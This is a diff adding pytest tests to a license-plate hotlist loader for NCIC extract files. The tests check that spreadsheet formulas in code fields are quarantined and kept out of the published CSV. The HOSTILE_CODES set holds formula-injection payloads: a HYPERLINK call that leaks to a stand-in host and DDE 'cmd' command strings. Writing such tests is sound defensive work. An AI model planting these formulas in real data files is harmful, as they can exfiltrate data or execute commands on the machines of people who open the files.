@@ -532,3 +532,60 @@ def test_high_entropy_identifiers_are_stored_uncompressed(settings: Settings, dr
     finally:
         con.close()
     assert sorted(kinds) == [("plate", "Uncompressed"), ("record_id", "Uncompressed")]
+
+
+HOSTILE_CODES = {
+    "colour": '=HYPERLINK("http://x.example/?leak")',
+    "model": "@SUM(1+1)*cmd|x",
+    "ori": "=cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize(("field", "value"), sorted(HOSTILE_CODES.items()))
+def test_a_code_field_that_is_no_code_is_a_row_error_and_never_published(
+    make_settings: Callable[..., Settings], drop: Drop, field: str, value: str
+) -> None:
+    """Code fields are codes, not free text: a formula in a colour, model or ORI is a row
+    error (the line is quarantined) and reaches neither the store's entries nor the
+    published hotlist.csv."""
+    from hotlist.purge import purge
+
+    settings = make_settings(
+        "guards = {max_row_error_share = 0.5}\nhit_types = ['V']", layout="ncic-csv"
+    )
+    fields = {"ori": "CA0190000", "model": "CAM", "colour": "BLK"} | {field: value}
+    drop.put(
+        "VEHEXTRT.txt",
+        "NCIC LPR EXTRACT 202611220800\n"
+        "V000000001,CA0190000,20240105,7ABC123,CA,2025,PC,2019,TOYT,CAM,4D,BLK\n"
+        f"V000000002,{fields['ori']},20240105,7HOS222,CA,2025,PC,2019,TOYT,"
+        f"{fields['model']},4D,{fields['colour']}\n",
+    )
+    [result] = _ncic(settings)
+    assert (result.entries, result.quarantined) == (1, 1)
+    purge(settings, None)
+    [csv_file] = (settings.data_dir / "published").glob("v*/hotlist.csv")
+    published = csv_file.read_text()
+    assert "7ABC123" in published
+    assert "7HOS222" not in published and value not in published
+    con = duckdb.connect(str(control_path(settings.data_dir)), read_only=True)
+    try:
+        rules = con.execute("SELECT rule, severity FROM file_issues WHERE line_no = 3").fetchall()
+    finally:
+        con.close()
+    assert rules == [(f"{field}.format", "error")]
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("make", "RIVN"), ("model", "R1T"), ("style", "CU"), ("colour", "AQU/BLK")],
+)
+def test_an_unknown_code_of_code_shape_is_a_warning_and_the_row_loads(
+    settings: Settings, drop: Drop, field: str, value: str
+) -> None:
+    """NCIC adds codes every quarter: a well-shaped code the tables do not know yet loads."""
+    line = ncic_line("V000000013", "7NEW777", **{field: value})
+    drop.put("VEHEXTRT.txt", ncic_file([*NCIC_DAY1, line]))
+    [result] = _ncic(settings)
+    assert (result.warnings, result.quarantined) == (1, 0)
+    assert len(find_hits(settings.data_dir, "7NEW777")) == 1
